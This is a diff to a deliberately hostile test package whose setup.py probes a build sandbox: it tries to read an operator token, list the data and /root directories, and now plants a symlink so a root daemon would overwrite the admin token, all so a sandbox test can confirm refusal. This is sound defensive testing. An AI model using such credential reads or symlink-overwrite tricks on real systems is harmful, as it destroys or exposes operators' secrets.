@@ -1,6 +1,7 @@
 """A package whose setup.py attacks the machine that builds it (pip runs it
 when mlengined installs the job's packages): it tries to read the operator's
-token and list the data directory, and records what it got in the module
+token and list the data directory, leaves a link for mlengined to write
+through, and records what it got in the module
 trainer/leak.py, which the trainer prints at run time. test_sandbox.py
 checks every attempt was refused."""
 
@@ -35,6 +36,16 @@ found = {
     "data-dir": attempt(listing),
     "root-home": attempt(lambda: ",".join(os.listdir("/root"))),
 }
+# A link where mlengined (root) writes once the build is done (the ready
+# marker's temporary file): written through, it would overwrite the
+# operator's token. The environment being built is this build's to write.
+link = os.path.join(sys.prefix, ".ready.tmp")
+try:
+    if not os.path.islink(link):  # pip runs setup.py more than once
+        os.symlink(os.path.join(data, "admin.token"), link)
+    found["ready-link"] = "planted"
+except OSError as e:
+    found["ready-link"] = "blocked " + type(e).__name__
 with open(os.path.join(here, "trainer", "leak.py"), "w") as f:
     f.write(f"FOUND = {found!r}\nDATA = {data!r}\n")
 
